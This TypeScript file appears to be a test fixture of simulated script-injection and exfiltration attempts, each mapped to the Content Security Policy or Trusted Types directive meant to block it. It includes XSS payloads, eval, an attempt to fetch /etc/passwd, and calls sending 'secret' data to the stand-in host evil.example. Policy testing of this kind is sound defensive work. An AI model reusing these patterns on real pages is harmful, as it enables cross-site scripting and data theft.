/** What a script that got into the page would try, and which part of the policy stops it (W6). */
export interface Attack {
  readonly name: string
  /** Mostly one; Chromium has changed its mind about what is an address of script. */
  readonly directives: readonly string[]
  readonly run: () => void
}

const texts = 'require-trusted-types-for'

/*
 * Each runs in the page, as a script that got in would. Text that would become script is stopped before
 * `script-src` is asked, which stands behind it as a second door.
 */
export const attacks: readonly Attack[] = [
  {
    name: 'markup out of text',
    directives: [texts],
    run: () => {
      document.body.innerHTML = '<b>hacked</b>'
    }
  },
  {
    name: 'markup beside an element',
    directives: [texts],
    run: () => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="hacked = 1">')
  },
  {
    name: 'another document out of text',
    directives: [texts],
    run: () => void new DOMParser().parseFromString('<b>hacked</b>', 'text/html')
  },
  {
    name: 'a document in a frame',
    directives: [texts],
    run: () => {
      document.createElement('iframe').srcdoc = '<script>parent.hacked = 1</script>'
    }
  },
  {
    name: 'a rule of its own for texts',
    directives: ['trusted-types'],
    run: () =>
      void window.trustedTypes?.createPolicy('mine', { createHTML: (text: string) => text })
  },
  {
    name: 'another rule for all texts',
    directives: ['trusted-types'],
    run: () =>
      void window.trustedTypes?.createPolicy('default', { createHTML: (text: string) => text })
  },
  {
    name: 'an inline script',
    directives: [texts],
    run: () => {
      const script = document.createElement('script')
      script.textContent = 'window.hacked = 1'
      document.head.append(script)
    }
  },
  {
    name: 'an inline handler',
    directives: [texts],
    run: () => {
      const button = document.createElement('button')
      button.setAttribute('onclick', 'window.hacked = 1')
      document.body.append(button)
      button.click()
      button.remove()
    }
  },
  {
    name: 'a script of another host',
    directives: [texts],
    run: () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.head.append(script)
    }
  },
  {
    name: 'eval',
    directives: [texts],
    // What a debugger evaluates may do so; a task of the page's own may not.
    run: () =>
      void setTimeout(() => {
        const name = 'eval'
        ;(window as unknown as Record<string, (text: string) => void>)[name]?.('window.hacked = 1')
      })
  },
  {
    name: 'a style of another host',
    directives: ['style-src-elem'],
    run: () => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = 'https://evil.example/x.css'
      document.head.append(link)
    }
  },
  {
    name: 'an inline style sheet',
    directives: ['style-src-elem'],
    run: () => {
      const style = document.createElement('style')
      style.textContent = 'body { background: url(https://evil.example/x) }'
      document.head.append(style)
    }
  },
  {
    name: 'a picture that carries data away',
    directives: ['img-src'],
    run: () => {
      new Image().src = 'https://evil.example/?secret'
    }
  },
  {
    name: 'a fetch',
    directives: ['connect-src'],
    run: () => void fetch('https://evil.example/').catch(() => undefined)
  },
  {
    name: 'a fetch of a local file',
    directives: ['connect-src'],
    run: () => void fetch('file:///etc/passwd').catch(() => undefined)
  },
  {
    name: 'a beacon',
    directives: ['connect-src'],
    run: () => void navigator.sendBeacon('https://evil.example/', 'secret')
  },
  {
    name: 'a web socket',
    directives: ['connect-src'],
    run: () => new WebSocket('wss://evil.example/').close()
  },
  {
    name: 'a worker',
    directives: [texts],
    run: () => new Worker(URL.createObjectURL(new Blob(['1']))).terminate()
  },
  {
    name: 'a frame',
    directives: ['frame-src'],
    run: () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    }
  },
  {
    name: 'an object',
    directives: [texts, 'object-src'],
    run: () => {
      const object = document.createElement('object')
      object.data = 'https://evil.example/x.swf'
      document.body.append(object)
    }
  },
  {
    name: 'another base for addresses',
    directives: ['base-uri'],
    run: () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
    }
  },
  {
    name: 'a form',
    directives: ['form-action'],
    run: () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      document.body.append(form)
      form.submit()
    }
  }
]
